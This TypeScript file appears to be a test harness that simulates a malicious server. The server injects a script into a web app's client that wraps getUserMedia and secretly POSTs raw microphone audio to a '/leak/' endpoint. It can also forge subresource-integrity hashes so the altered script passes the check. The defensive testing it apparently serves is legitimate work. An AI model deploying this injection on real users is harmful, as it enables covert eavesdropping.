/**
 * A server that gives one user another client than everybody else: theirs sends the microphone to the server
 * too, before anything is sealed. For `ActiveRelay`'s `answer`.
 */
import { createHash } from 'node:crypto';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { Pcm } from '../measure/pcm.ts';

/** What the page says about its script (https://w3c.github.io/webappsec-subresource-integrity/). */
export type IntegrityOf = 'nothing' | 'honest-script' | 'changed-script';

export interface ChangedClientOptions {
  readonly upstreamUrl: string;
  readonly integrityOf: IntegrityOf;
  /** Default: leaks. */
  readonly script?: 'leaks' | 'unchanged';
}

const scriptPath = /^\/assets\/index-[^/]*\.js$/;
const pagePath = /^\/(j\/[^/]+)?$/;
const leakPath = /^\/leak\/(\d+)\/(\d+)$/;

/** Runs before the page's own script. Answers come back before the next piece is read. */
const leak = `{
  const media = navigator.mediaDevices;
  const ask = media.getUserMedia.bind(media);
  const send = async (track) => {
    const reader = new MediaStreamTrackProcessor({ track, maxBufferSize: 500 }).readable.getReader();
    let pieces = [];
    let held = 0;
    for (let place = 0; ; ) {
      const { value } = await reader.read();
      if (value === undefined) return;
      const { sampleRate, numberOfFrames } = value;
      const piece = new Float32Array(numberOfFrames);
      value.copyTo(piece, { planeIndex: 0, format: 'f32-planar' });
      value.close();
      pieces.push(piece);
      held += numberOfFrames;
      if (held < sampleRate / 2) continue;
      const body = new Blob(pieces);
      pieces = [];
      held = 0;
      await fetch('/leak/' + sampleRate + '/' + place++, { method: 'POST', body });
    }
  };
  media.getUserMedia = async (constraints) => {
    const stream = await ask(constraints);
    for (const track of stream.getAudioTracks()) send(track.clone()).catch(() => undefined);
    return stream;
  };
}
`;

export class ChangedClient {
  readonly #options: ChangedClientOptions;
  readonly #pieces = new Map<number, Buffer>();
  #rateHz = 48_000;

  constructor(options: ChangedClientOptions) {
    this.#options = options;
  }

  /** As `ActiveRelayOptions.answer`. */
  readonly answer = (request: IncomingMessage, response: ServerResponse): boolean => {
    const { pathname } = new URL(request.url ?? '/', this.#options.upstreamUrl);
    const [, rateHz, place] = leakPath.exec(pathname) ?? [];
    if (rateHz !== undefined) {
      void this.#take(request, response, { rateHz: Number(rateHz), place: Number(place) });
      return true;
    }
    const isPage = pagePath.test(pathname) && this.#options.integrityOf !== 'nothing';
    if (!isPage && !scriptPath.test(pathname)) return false;
    // A socket is no page, whatever its path.
    if (request.method !== 'GET' || request.headers.upgrade !== undefined) return false;
    void this.#serve(pathname, request, response);
    return true;
  };

  /** What the changed client has sent so far, of all tracks that it was given. */
  get leaked(): Pcm {
    const bytes = Buffer.concat(
      [...this.#pieces].sort(([a], [b]) => a - b).map(([, piece]) => piece),
    );
    const samples = new Float32Array(Math.floor(bytes.length / 4));
    for (let i = 0; i < samples.length; i++) samples[i] = bytes.readFloatLE(4 * i);
    return { sampleRateHz: this.#rateHz, samples };
  }

  async #take(
    request: IncomingMessage,
    response: ServerResponse,
    { rateHz, place }: { readonly rateHz: number; readonly place: number },
  ): Promise<void> {
    const chunks: Buffer[] = [];
    for await (const chunk of request) if (Buffer.isBuffer(chunk)) chunks.push(chunk);
    this.#rateHz = rateHz;
    this.#pieces.set(place, Buffer.concat(chunks));
    response.writeHead(204).end();
  }

  async #serve(
    pathname: string,
    request: IncomingMessage,
    response: ServerResponse,
  ): Promise<void> {
    try {
      const honest = await this.#fetch(pathname, request);
      const body = scriptPath.test(pathname)
        ? this.#scriptFrom(honest.body)
        : await this.#pageFrom(honest.body, request);
      response.writeHead(200, honest.headers).end(body);
    } catch {
      response.writeHead(502).end();
    }
  }

  #scriptFrom(honest: string): string {
    return this.#options.script === 'unchanged' ? honest : leak + honest;
  }

  /** With an `integrity` attribute on the script, of one or the other. */
  async #pageFrom(honest: string, request: IncomingMessage): Promise<string> {
    const src = /src="(\/assets\/index-[^"]+\.js)"/.exec(honest)?.[1];
    if (src === undefined) throw new TypeError('the page has no script');
    const script = (await this.#fetch(src, request)).body;
    const covered =
      this.#options.integrityOf === 'changed-script' ? this.#scriptFrom(script) : script;
    const hash = createHash('sha384').update(covered).digest('base64');
    return honest.replace(`src="${src}"`, `src="${src}" integrity="sha384-${hash}"`);
  }

  async #fetch(
    pathname: string,
    { headers }: IncomingMessage,
  ): Promise<{ readonly body: string; readonly headers: Record<string, string> }> {
    const accept = headers.accept ?? '*/*';
    const answer = await fetch(new URL(pathname, this.#options.upstreamUrl), {
      headers: { accept, host: headers.host ?? '' },
    });
    if (!answer.ok) throw new Error(`HTTP ${String(answer.status)}`);
    const kept = ['content-type', 'content-security-policy', 'permissions-policy'];
    const isolation = ['cross-origin-opener-policy', 'cross-origin-embedder-policy'];
    return {
      body: await answer.text(),
      headers: Object.fromEntries(
        [...kept, ...isolation].flatMap((name) => {
          const value = answer.headers.get(name);
          return value === null ? [] : [[name, value] as const];
        }),
      ),
    };
  }
}
